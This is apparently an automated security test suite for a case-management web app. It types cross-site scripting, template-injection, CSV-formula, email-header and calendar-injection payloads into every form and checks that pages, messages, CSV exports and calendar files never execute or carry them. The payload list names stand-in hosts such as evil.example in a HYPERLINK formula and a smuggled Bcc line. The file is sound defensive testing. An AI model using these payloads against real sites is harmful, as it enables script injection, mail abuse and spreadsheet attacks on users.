// T11, T12, T14: scripts, templates and formulas typed into every field of every form that a persona can reach. Then every
// page is read again as every persona: what holds any of it is opened in real Chromium, and nothing may run.

import { MailboxMessage } from '../../src/messages/entities';
import { Db } from '../../src/persistence';
import { formsIn, kindOf, saidIn, Visitor, type Visited } from '../crawl';
import { DESK, demonstrate, type Demonstration } from './demonstration';

jest.setTimeout(240_000);

/** Found again wherever any of them is shown. */
const MARK = 'zq7';
const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onmouseover='alert(3)' autofocus onfocus='alert(4)",
  '</title></textarea></style><svg onload=alert(5)>',
  'javascript:alert(6)',
  '{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% debug %}',
  '[x](javascript:alert(7)) ![x](x"onerror="alert(8))',
  '=HYPERLINK("http://evil.example","x")',
  'a\r\nBcc: all@evil.example\r\nX-EVIL: 1\r\nEND:VEVENT\r\nBEGIN:VALARM',
  '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe><base href=//evil.example>',
].map((each, n) => `${MARK}-${n} ${each}`);

const personas = ['Amira', 'Grace', 'Dev', 'Ines', 'Dr Patel', 'Olu'];
/** Pages that are not the same for everybody. */
const OWN = /^\/(cases|files|desk|account|admin|executive|patterns|invitations)/;
/** What ends a session or a case's life for those who come after, or belongs to the demonstration. */
const NEVER =
  /^\/(exit|sign-out|demo|sign-in)|erase|withdraw|delete|discard|remove|passkey|second|\/security|\/end$/;
const LONGEST_WALK = 14;
const TABS = 3;

describe('What people write', () => {
  let demo: Demonstration;
  let sent = 0;
  let taken = 0;
  const pages: (Visited & { who: string })[] = [];
  const holding = () => pages.filter(({ html }) => html.includes(MARK));

  /** A form with something of the corpus in each field that takes text, and an example in the others. */
  async function fill(visitor: Visitor, page: Visited, n: number): Promise<void> {
    for (const form of formsIn(page.html)) {
      if (form.method !== 'post' || form.typed.length === 0 || NEVER.test(form.action)) continue;
      let next: Visited | undefined = page;
      let found: ReturnType<typeof formsIn>[number] | undefined = form;
      for (let step = 0; step < LONGEST_WALK && next && found; step += 1) {
        const { typed, example, action }: typeof form = found;
        const fields = example.map(([name, value], at): [string, string] => {
          const part = /\[(year|month|day)\]$/.exec(name)?.[1];
          if (part) return [name, { year: '2026', month: '11', day: '13' }[part] ?? ''];
          return [
            name,
            typed.includes(name) ? (payloads[(n + step + at) % payloads.length] as string) : value,
          ];
        });
        next = await visitor.send(found, fields, page.path);
        sent += 1;
        if (next.status >= 500) throw new Error(`${action}: ${next.status}`);
        if (next.status < 300) taken += 1;
        // On to the next question of this form, up to the page that sends it.
        found = formsIn(next.html).find(
          (each) =>
            each.hidden.some(([name, value]) => name === 'go' && /next|send/.test(value)) &&
            !NEVER.test(each.action),
        );
        if (
          found?.action === action &&
          found.hidden.every(([, value]) => value !== 'send') &&
          step > 0 &&
          next.status >= 400
        )
          break;
      }
    }
  }

  beforeAll(async () => {
    demo = await demonstrate();
    const same = new Set<string>();
    for (const who of personas) {
      const visitor = await new Visitor(demo.url).become(who);
      const kinds = new Map<string, Visited>();
      for (const page of await visitor.everything(same, false)) {
        if (page.type.startsWith('text/html')) kinds.set(kindOf(page.path), page);
        if (!OWN.test(page.path)) same.add(page.path);
      }
      same.delete('/');
      let n = 0;
      for (const page of kinds.values()) await fill(visitor, page, (n += 1));
    }
    const seen = new Set<string>();
    for (const who of personas) {
      const visitor = await new Visitor(demo.url).become(who);
      for (const page of await visitor.everything(seen, false)) {
        pages.push({ ...page, who });
        if (!OWN.test(page.path)) seen.add(page.path);
      }
      seen.delete('/');
    }
  });
  afterAll(() => demo?.close());

  it('T11 was written and is shown again, on many kinds of page', () => {
    console.info(
      `${sent} forms sent, ${taken} taken; ${holding().length} of ${pages.length} answers hold some of it, of ` +
        `${new Set(holding().map(({ path }) => kindOf(path))).size} kinds`,
    );
    expect(taken).toBeGreaterThan(20);
    expect(new Set(holding().map(({ path }) => kindOf(path))).size).toBeGreaterThan(12);
    const shown = payloads.filter((_, n) => pages.some(({ html }) => html.includes(`${MARK}-${n}`)));
    expect(shown.length).toBeGreaterThan(7);
  });

  it('T11 1.2.1 is text wherever it is shown: no tag, no attribute, no address of it', () => {
    const wrong = holding().filter(({ type, html }) => {
      if (!type.startsWith('text/html')) return false;
      const bare = html.replace(/="[^"]*"/g, '=""');
      return (
        /<script>alert|<img src=x|<svg onload|<iframe|<base|href="javascript:/.test(html) ||
        /<[a-z][^<>]*\son\w+=/.test(bare)
      );
    });
    expect(wrong.map(({ who, path }) => `${who} ${path}`)).toEqual([]);
  });

  it('T12 is never worked out by a template', () => {
    const wrong = pages.filter(({ html }) =>
      new RegExp(`${MARK}-5 (?!\\{\\{|{{|$)`).test(saidIn(html).join('\n')),
    );
    expect(wrong.map(({ who, path }) => `${who} ${path}`)).toEqual([]);
  });

  it('T11 runs nowhere in a browser, and no policy has to stop it', async () => {
    const seen = new Map<string, { path: string; who: string }>();
    for (const { path, who, type } of holding())
      if (type.startsWith('text/html'))
        seen.set(`${kindOf(path)} ${who === 'Amira' || who === 'Tom'}`, { path, who });
    const todo = [...seen.values()].sort((a, b) => (a.who < b.who ? -1 : 1));
    const ran: string[] = [];
    const looked = await Promise.all(
      Array.from({ length: TABS }, async (_, tab) => {
        let count = 0;
        for (const who of personas.filter((_each, n) => n % TABS === tab)) {
          const own = todo.filter((each) => each.who === who);
          if (own.length === 0) continue;
          const page = await demo.as(who, { viewport: DESK });
          page.on('dialog', (dialog) => {
            ran.push(`${page.url()}: a dialog`);
            void dialog.dismiss();
          });
          page.on('console', (message) => {
            if (/Content Security Policy|Refused to/.test(message.text()))
              ran.push(`${page.url()}: ${message.text()}`);
          });
          page.on('pageerror', (error) => ran.push(`${page.url()}: ${error.message}`));
          for (const { path } of own) {
            await page.goto(demo.url + path);
            count += 1;
          }
          await page.context().close();
        }
        return count;
      }),
    );
    expect(ran).toEqual([]);
    expect(looked.reduce((sum, each) => sum + each, 0)).toBe(todo.length);
    expect(todo.length).toBeGreaterThan(12);
  });

  it('T12 1.3.11 reaches no message: neither its subject nor its text nor another receiver', async () => {
    const db = demo.app.get(Db);
    const messages = await db.read.find(MailboxMessage);
    expect(messages.length).toBeGreaterThan(10);
    expect(messages.filter((each) => JSON.stringify(each).includes(MARK))).toEqual([]);
  });

  it('T14 1.2.10 is no formula in a table, and no line of a calendar', () => {
    const tables = pages.filter(({ type }) => type.startsWith('text/csv'));
    const calendars = pages.filter(({ type }) => type.startsWith('text/calendar'));
    expect([tables.length > 0, calendars.length > 0]).toEqual([true, true]);
    for (const { html } of tables)
      for (const cell of html.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)))
        expect(cell).not.toMatch(/^"?[=+@\t\r]|^"?-(?!\d)/);
    for (const { html, path } of calendars) {
      for (const line of html
        .replace(/\r\n[ \t]/g, '')
        .split('\r\n')
        .filter(Boolean))
        expect([path, line]).toEqual([path, expect.stringMatching(/^[A-Z-]+[;:]/)]);
      expect(html).not.toMatch(/^X-EVIL/m);
    }
  });
});
